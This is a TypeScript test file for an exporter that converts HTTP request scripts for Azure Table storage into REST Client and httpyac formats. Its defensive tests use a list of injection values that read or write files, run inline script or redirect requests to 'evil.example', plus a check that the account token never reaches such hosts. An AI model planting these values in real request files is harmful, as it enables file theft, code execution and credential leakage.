import assert from "node:assert/strict";
import { test } from "node:test";
import type { Block, Exchange, Message } from "../../engine/types.ts";
import { readBlock } from "./block-text.ts";
import { type ExportSource, exportScript } from "./export.ts";
import { operationsOf } from "./multipart.ts";
import { within } from "./request.ts";
import { rewrite, type Scope } from "./tools.ts";

const ADDRESS = "http://127.0.0.1:10002/devstoreaccount1";

const sent = (method: string, path: string, more: Partial<Message> = {}): Message =>
  ({
    method,
    url: ADDRESS + path,
    status: 0,
    reason: "",
    headers: [["Accept", "application/json"]],
    body: "",
    ...more,
  }) as Message;

const answered = (status: number): Message => ({ ...sent("", ""), url: "", status, headers: [] });

const exchange = (block: number, more: Partial<Exchange>): Exchange =>
  ({ block, blocks: [block], hidden: false, title: "", name: "", ops: [], wire: [], ...more }) as unknown as Exchange;

/** Blocks as the engine reports them, one for each "###". */
function blocksOf(text: string): Block[] {
  const lines = text.split("\n");
  const starts = lines.flatMap((line, i) => (line.startsWith("###") ? [i + 1] : []));
  return starts.map((firstLine, index) => {
    const lastLine = (starts[index + 1] ?? lines.length + 1) - 1;
    const batch = /@batch (\w+)/.exec(lines.slice(firstLine, lastLine).join("\n"))?.[1] ?? "";
    return {
      index,
      firstLine,
      lastLine,
      line: firstLine + 1,
      title: lines[firstLine - 1]?.slice(4) ?? "",
      name: "",
      batch,
    } as Block;
  });
}

const source = (text: string, exchanges: Exchange[]): ExportSource => ({
  text,
  blocks: blocksOf(text),
  exchanges,
  head: ["Head"],
  begun: [],
  filling: ({ table, rows }) => (rows ? `Rows ${rows.join(" to ")} of ${table}` : `Create ${table}`),
  notSent: (title) => `${title} was not sent`,
  obeyed: (title) => `${title} would be obeyed`,
});

const scope = (tool: Scope["tool"], more: Partial<Scope> = {}): Scope => ({
  tool,
  variables: new Map([
    ["dept", "Sales"],
    ["six", "{{$pad 1 6}}"],
    ["me", "{{me}}"],
  ]),
  names: new Map([["read", "read_2"]]),
  values: new Map([["etag", "{{read_2.response.headers.ETag}}"]]),
  ...more,
});

test("a block is read as request, remarks and words of our own", () => {
  const block = readBlock(
    "### Title\n# why\n# @follow\nGET /People()\n    ?$filter=Age eq 1\n    &$top=5\nAccept: a/b\n\n{ }\n\n# ?? count == 1".split(
      "\n",
    ),
  );
  assert.deepEqual(block, {
    comments: ["why"],
    words: ["@follow", "?? count == 1"],
    method: "GET",
    target: "/People()?$filter=Age eq 1&$top=5",
    headers: [["Accept", "a/b"]],
    body: "{ }",
  });
});

test("expressions become those of the tool, or none", () => {
  const cases: [string, string | null, string | null][] = [
    ["{{dept}}", "{{dept}}", "{{dept}}"],
    ["{{$guid}} {{$randomInt 1 9}}", "{{$guid}} {{$randomInt 1 9}}", "{{$guid}} {{$randomInt 1 9}}"],
    ["{{read.response.headers.ETag}}", "{{read_2.response.headers.ETag}}", '{{read_2Response.headers["etag"]}}'],
    ["{{read.response.body.value[0].Age}}", null, '{{read_2["value"][0]["Age"]}}'],
    ["{{read.response.body.*}}", null, "{{read_2Response.body}}"],
    ["{{read.response.status}}", null, "{{read_2Response.statusCode}}"],
    ["{{$pad 1 6}}", null, null],
    ["{{six}}", null, null],
    ["{{me}}", null, null],
    ["{{nobody.response.headers.ETag}}", null, null],
  ];
  for (const [text, rest, yac] of cases) {
    assert.equal(rewrite(text, scope("restclient")), rest, text);
    assert.equal(rewrite(text, scope("httpyac")), yac, text);
  }
  assert.equal(rewrite("{{etag}}", scope("restclient")), "{{read_2.response.headers.ETag}}");
});

test("what the script says stays only where it can have become what was sent", () => {
  assert.equal(within("a{{x}}c", "abc"), true);
  assert.equal(within("{{x}}c", "bc"), true);
  assert.equal(within("a{{x}}c", "bc"), false);
  assert.equal(within("a{{x}}d", "abc"), false);
});

test("each page of a query that follows its tokens takes the token of the page before", () => {
  const text = "### All\n# @follow\nGET {{table}}/People()?$top=1\nAccept: application/json";
  const wire = ["", "&NextPartitionKey=1!4!YQ--&NextRowKey=1!4!Yg--", "&NextPartitionKey=1!4!Yw--"].map((token) => ({
    request: sent("GET", `/People()?$top=1${token}`),
    response: answered(200),
  }));
  const out = exportScript(source(text, [exchange(0, { title: "All", wire })]), "restclient");
  assert.match(out, /# rowkey: @follow\n# @name page\nGET \{\{table\}\}\/People\(\)\?\$top=1&\{\{sas\}\}/);
  assert.match(
    out,
    /NextPartitionKey=\{\{page\.response\.headers\.x-ms-continuation-NextPartitionKey\}\}&NextRowKey=\{\{page\./,
  );
  assert.match(out, /NextPartitionKey=\{\{page_2\.response\.headers\.x-ms-continuation-NextPartitionKey\}\}&\{\{sas/);
  assert.equal(/1!4!/.test(out), false, out);
});

test("a transaction is one raw request, with the words of the script in its operations", () => {
  const text =
    '### Hire\n# @batch b\nPOST {{table}}/People\n\n{ "PartitionKey": "{{dept}}",\n "RowKey": "1" }\n\n###\n# @batch b\nDELETE {{table}}/People(PartitionKey=\'Sales\',RowKey=\'2\')\nIf-Match: *\n\n@dept = Sales';
  const part = (lines: string) =>
    `--changeset_x\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n${lines}`;
  const body = `--batch_x\r\nContent-Type: multipart/mixed; boundary=changeset_x\r\n\r\n${part(
    `POST ${ADDRESS}/People HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{ "PartitionKey": "Sales",\r\n "RowKey": "1" }\r\n`,
  )}${part(`DELETE ${ADDRESS}/People(PartitionKey='Sales',RowKey='2') HTTP/1.1\r\nIf-Match: *\r\n\r\n`)}--changeset_x--\r\n--batch_x--\r\n`;
  const request = sent("POST", "/$batch", { body, headers: [["Content-Type", "multipart/mixed; boundary=batch_x"]] });
  const ops = [{ block: 0 }, { block: 1 }] as Exchange["ops"];
  const x = exchange(0, { blocks: [0, 1], title: "Hire", ops, wire: [{ request, response: answered(202) }] });
  const out = exportScript(source(text, [x]), "httpyac");
  assert.match(out, /POST \{\{table\}\}\/\$batch\?\{\{sas\}\}\nContent-Type: multipart\/mixed; boundary=batch_1\n/);
  assert.match(out, /\n\{ "PartitionKey": "\{\{dept\}\}", "RowKey": "1" \}\n/);
  assert.match(out, /\n@dept = Sales\n/);
  assert.match(out, /\?\? status == 202/);
  const { operations } = operationsOf(out);
  assert.deepEqual(
    operations.map((o) => o.method),
    ["POST", "DELETE"],
  );
});

test("a request that no run has sent is written as it stands, or said to be missing", () => {
  const text =
    "### Known\nGET {{table}}/People()\n\n### Unknown\nGET {{table}}/People(PartitionKey='{{$pad n 6}}',RowKey='')\n";
  const out = exportScript(source(text, []), "restclient");
  assert.match(out, /GET \{\{table\}\}\/People\(\)\?\{\{sas\}\}\n/);
  assert.match(out, /# Unknown was not sent/);
  assert.equal(/\$pad/.test(out), false, out);
});

test("no line of ours is obeyed by another tool, whatever it says", () => {
  const text =
    "### T\n# @loop for 5\n# @sleep 1000\n# @disabled\n# @import x.http\n# ?? status == 200\nGET {{table}}/People()\nAccept: application/json";
  const x = exchange(0, {
    title: "T\n### two\n# @loop for 9",
    wire: [{ request: sent("GET", "/People()"), response: answered(200) }],
  });
  for (const tool of ["restclient", "httpyac"] as const) {
    const out = exportScript(source(text, [x]), tool);
    assert.equal(/^\s*(#|\/\/)\s*@(?!name )/m.test(out), false, out);
    assert.equal(out.match(/^###/gm)?.length, 1);
  }
});

test("the rows that a script begins with come first, in transactions of a partition that can be sent again", () => {
  const row = (partition: string, i: number) => ({
    line: 0,
    partition,
    row: `O'${i}`,
    json: `{"n":${i},"text":"{{{me}}}"}`,
  });
  const entities = [...Array.from({ length: 101 }, (_, i) => row("a b", i)), row("c", 0)];
  const text = "### All\nGET /People()";
  const all = source(text, [
    exchange(0, { title: "All", wire: [{ request: sent("GET", "/People()"), response: answered(200) }] }),
  ]);
  const file = exportScript({ ...all, begun: [{ table: "People", entities }] }, "httpyac");
  assert.deepEqual(
    file.split("\n").filter((line) => line.startsWith("### ")),
    [
      "### 1. Create People",
      "### 2. Rows 1 to 100 of People",
      "### 3. Rows 101 to 101 of People",
      "### 4. Rows 102 to 102 of People",
      "### 5. All",
    ],
  );
  const { operations } = operationsOf(file.slice(file.indexOf("### 2."), file.indexOf("### 3.")));
  assert.equal(operations.length, 100);
  assert.deepEqual(operations[0], {
    method: "PUT",
    url: "{{table}}/People(PartitionKey='a%20b',RowKey='O''0')",
    headers: [["Content-Type", "application/json"]],
    body: '{"n":0,"text":"\\u007b\\u007b{me}}}"}',
  });
  assert.deepEqual(file.match(/^\?\? status == \d+$/gm), [
    "?? status == 202",
    "?? status == 202",
    "?? status == 202",
    "?? status == 200",
  ]);
});

const HOSTILE = [
  "< /etc/evil",
  "  <@ /etc/evil",
  "<@latin1 /etc/evil",
  "x\n< /etc/evil",
  "x\r< /etc/evil",
  "> {% evil() %}",
  "< {% evil() %}",
  ">> /tmp/evil",
  "?? js evil()",
  "# @import evil.http",
  "// @proxy evil",
  "@table = https://evil.example",
  "{{evil()}}",
  "{{\nevil()\n}}",
  "### x\nGET https://evil.example/",
];

/** Lines of a file that a tool does something for, other than those that we write. */
const ORDERS =
  /^\s*(?:<(?:@\w*)?\s|<>|<\s*\{|>|\?\?(?! status == \d+$)|@(?!table = http:\/\/127|sas = timeout|v = )|(?:#+|\/\/)\s*@(?!name )|###(?! \d+\. | T)|(?!#).*\{\{(?!(?:table|sas|v|o|c)\}\}))/m;

test("no value becomes a line that a tool obeys, or code, in whatever place it is", () => {
  for (const value of HOSTILE)
    for (const tool of ["restclient", "httpyac"] as const)
      for (const [place, text, more] of placesOf(value)) {
        const x = exchange(0, {
          title: `T ${value}`,
          wire: [{ request: sent("POST", "/T", more), response: answered(200) }],
        });
        for (const exchanges of [[x], []]) {
          const all = { ...source(`${text}\n`, exchanges), head: [value.replaceAll(/\s+/g, " ")] };
          const file = exportScript(all, tool).replaceAll("\r", "\n");
          assert.equal(ORDERS.test(file), false, `${tool}, ${place}, ${JSON.stringify(value)}: ${file}`);
        }
      }
});

/** Scripts with a value, and what was sent. */
function placesOf(value: string): [place: string, text: string, sent: Partial<Message>][] {
  const json = JSON.stringify({ v: value });
  const line = value.replaceAll(/\s*[\r\n]\s*/g, " ");
  const [open, close] = [value.replaceAll("{{", "{{o}}{").replaceAll("}}", "}{{c}}"), "@o = {\n@c = }\n"];
  return [
    ["a body", `### T\nPOST /T\n\n${value}`, { body: value }],
    ["a variable as the body", `@v = ${line}\n### T\nPOST /T\n\n{{v}}`, { body: line }],
    ["braces that meet", `${close}### T\nPOST /T\n\n${open}`, { body: value }],
    ["a property", `### T\nPOST /T\n\n${json}`, { body: json }],
    ["a comment", `### T\n# ${value.replaceAll("\n", "\n# ")}\n#  @ ${line}\nPOST /T`, {}],
    ["an address", `### T\nPOST /T/${line}`, { url: `${ADDRESS}/T/${line}` }],
    ["a header", `### T\nPOST /T\nX-A: ${line}`, { headers: [["X-A", line]] }],
  ];
}

test("the token of the account is for its own hosts", () => {
  const urls = ["https://evil.example/x", "{{table}}@evil.example/x", "{{table}}.evil.example/x", "{{host}}/x"];
  for (const url of urls)
    for (const tool of ["restclient", "httpyac"] as const) {
      const text = `@host = https://evil.example\n@sas = x\n### T\nPOST ${url}\n\n{{sas}}`;
      const request = { url: url.replace("{{table}}", ADDRESS).replace("{{host}}", "https://evil.example"), body: "x" };
      const x = exchange(0, { title: "T", wire: [{ request: sent("POST", "", request), response: answered(200) }] });
      for (const exchanges of [[x], []]) {
        const file = exportScript(source(text, exchanges), tool);
        assert.equal(/\{\{sas\}\}/.test(file), false, file);
      }
    }
});
